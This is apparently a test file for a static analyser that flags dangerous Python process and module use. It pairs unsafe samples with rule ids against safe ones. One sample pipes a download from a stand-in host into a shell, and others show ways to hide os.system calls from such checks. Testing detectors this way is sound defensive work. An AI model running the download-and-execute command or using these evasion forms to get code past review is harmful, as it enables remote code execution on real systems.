import t from 'tap';
import { analyzePython } from '../../../../plugins/engines/code/analyze.js';
import { blockedOverHttp, pick, ruleTable } from '../rule-table.js';

/**
 * Python that ran a program or code while the engine answered VERIFIED, is_valid true, ADMIT:
 * subprocess's `shell` and `executable` given by position, the private primitives subprocess is
 * built on, a module object (os, subprocess, builtins, …) handed on through a call, a return value
 * or a container, sys.modules read other than by a constant key, an import in a class body,
 * pydoc.locate / pkgutil.resolve_name (import by name, as importlib.import_module is).
 */
const UNSAFE: Array<[name: string, src: string, rule: string]> = [
  ['Popen shell by position', `import subprocess\nsubprocess.Popen('curl http://e.vil/x | sh', -1, None, None, None, None, None, True, True)\n`, 'python.rce.download_pipe_shell'],
  ['call shell by position, computed', `import subprocess\nsubprocess.call(cmd, -1, None, None, None, None, None, True, True)\n`, 'python.process.shell_injection'],
  ['Popen executable by position', `import subprocess\nsubprocess.Popen(['ls', '-c', 'id'], -1, '/bin/sh')\n`, 'python.process.interpreter'],
  ['check_output executable by position', `import subprocess\nsubprocess.check_output(['ls'], -1, 'bash')\n`, 'python.process.interpreter'],
  ['run executable by position, computed', `import subprocess\nsubprocess.run(['ls'], -1, prog)\n`, 'python.process.dynamic_program'],
  ['_posixsubprocess.fork_exec', `import _posixsubprocess\n_posixsubprocess.fork_exec(args, exe, True, (), None, None, -1, -1, -1, -1, -1, -1, 3, 4, True, False, None, None, None, -1, None, False)\n`, 'python.process.exec_replace'],
  ['_winapi.CreateProcess', `import _winapi\n_winapi.CreateProcess(None, cmd, None, None, 0, 0, None, None, None)\n`, 'python.process.exec_replace'],
  ['os returned by a function', `import os\ndef get():\n    return os\nget().system(cmd)\n`, 'python.dangerous_call.module_reference'],
  ['os imported in a function and returned', `def get():\n    import os\n    return os\nget().system(cmd)\n`, 'python.dangerous_call.module_reference'],
  ['os through an identity function', `import os\ndef same(a):\n    return a\nsame(os).system(cmd)\n`, 'python.dangerous_call.module_reference'],
  ['os through a lambda', `import os\n(lambda m: m)(os).system(cmd)\n`, 'python.dangerous_call.module_reference'],
  ['os appended to a list', `import os\nl = []\nl.append(os)\nl[0].system(cmd)\n`, 'python.dangerous_call.module_reference'],
  ['os stored by subscript', `import os\nd = {}\nd['s'] = os\nd['s'].system(cmd)\n`, 'python.dangerous_call.module_reference'],
  ['os as a keyword value', `import os\nns = {}\nns.update(m=os)\nns['m'].system(cmd)\n`, 'python.dangerous_call.module_reference'],
  ['os in a generator', `import os\ng = (m for m in [os])\nnext(g).system(cmd)\n`, 'python.dangerous_call.module_reference'],
  ['os in a starred unpacking', `import os\na, *b = [1, os]\nb[0].system(cmd)\n`, 'python.dangerous_call.module_reference'],
  ['os in a set', `import os\nx = {os}\nx.pop().system(cmd)\n`, 'python.dangerous_call.module_reference'],
  ['os given to setattr as the value', `import os\nsetattr(C, 'm', os)\nC.m.system(cmd)\n`, 'python.dangerous_call.module_reference'],
  ['subprocess by an alias, returned', `import subprocess as sp\ndef runner():\n    return sp\nrunner().run(cmd, shell=False)\n`, 'python.dangerous_call.module_reference'],
  ['sys.modules entry handed on', `import sys\ndef same(a):\n    return a\nsame(sys.modules['os']).system(cmd)\n`, 'python.dangerous_call.module_reference'],
  ['sys.modules.get', `import sys\nsys.modules.get('os').system(cmd)\n`, 'python.process.shell_injection'],
  ['sys.modules.copy()', `import sys\nsys.modules.copy()['os'].system(cmd)\n`, 'python.dangerous_call.namespace_dynamic'],
  ['sys.modules.values()', `import sys\nlist(sys.modules.values())[5].system(cmd)\n`, 'python.dangerous_call.namespace_dynamic'],
  ['sys.modules.items()', `import sys\n[m for n, m in sys.modules.items() if n == 'o' + 's'][0].system(cmd)\n`, 'python.dangerous_call.namespace_dynamic'],
  ['sys.modules by a computed key', `import sys\nsys.modules[name].system(cmd)\n`, 'python.dangerous_call.namespace_dynamic'],
  ['import in a class body', `class K:\n    import os\nK.os.system(cmd)\n`, 'python.process.shell_injection'],
  ['import in a class body, through self', `class K:\n    import os\n    def f(self):\n        self.os.system(cmd)\n`, 'python.process.shell_injection'],
  ['pydoc.locate', `import pydoc\npydoc.locate('os.system')(cmd)\n`, 'python.process.shell_injection'],
  ['pydoc.locate of a computed name', `import pydoc\npydoc.locate(name)(cmd)\n`, 'python.import.dynamic'],
  ['pkgutil.resolve_name', `import pkgutil\npkgutil.resolve_name('os:system')(cmd)\n`, 'python.process.shell_injection'],
];

const SAFE: Array<[name: string, src: string]> = [
  ['fixed argv with bufsize by position', `import subprocess\nsubprocess.run(['ls', '-l'], 0)\n`],
  ['executable by position is None', `import subprocess\nsubprocess.Popen(['ls'], -1, None)\n`],
  ['os bound to a name', `import os\nm = os\nprint(m.getcwd())\n`],
  ['hasattr and getattr with a default on sys', `import sys, os\nfrozen = getattr(sys, 'frozen', False)\nif hasattr(os, 'fork'):\n    pass\n`],
  ['isinstance, print, repr of a module', `import os, types\nprint(isinstance(os, types.ModuleType), repr(os))\n`],
  ['a test double on os', `import os\nfrom unittest import mock\nwith mock.patch.object(os, 'getcwd', return_value='/'):\n    pass\n`],
  ['a variable named like a module', `def run(code):\n    return [code]\n`],
  ['sys.modules by a constant key', `import sys\nmod = sys.modules['json']\nprint('os' in sys.modules, list(sys.modules.keys())[:3], sorted(sys.modules)[:1])\n`],
  ['sys.modules iterated for names', `import sys\nfor name in sys.modules:\n    print(name)\n`],
  ['sys.modules.pop in a test', `import sys\nsys.modules.pop('mymod', None)\n`],
  ['sys.modules[__name__] is this module', `import sys\nthis = sys.modules[__name__]\nsetattr(sys.modules[__name__], 'VERSION', 2)\n`],
  ['pydoc.locate of a plain class', `import pydoc\ncls = pydoc.locate('json.JSONDecoder')\n`],
  ['a match statement', `def f(p):\n    match p:\n        case {'k': [1, *rest]} if rest:\n            return rest\n        case _:\n            return None\n`],
];

ruleTable('Python value flows and positional forms', 'python', UNSAFE, SAFE);

t.test('a match statement is analysed, not refused as a block without statements', async (t) => {
  const a = await analyzePython("match cmd:\n    case 'go':\n        import os\n        os.system(cmd)\n    case _:\n        pass\n");
  t.ok(a.parseOk, 'CPython compiles it');
  t.ok(a.findings.some((f) => f.rule_id === 'python.process.shell_injection'), 'the case body is read');
  const bad = await analyzePython('match cmd:\n    case 1:\n        pass\n      case 2:\n        pass\n');
  t.notOk(bad.parseOk, 'case clauses at different indentation still fail to compile');
});

blockedOverHttp(
  'POST /verify/code blocks Python value flows',
  pick(UNSAFE, ['Popen shell by position', 'os returned by a function', 'sys.modules.get', 'import in a class body'], 'python'),
  pick(SAFE, ['a match statement', 'os bound to a name'], 'python'),
);
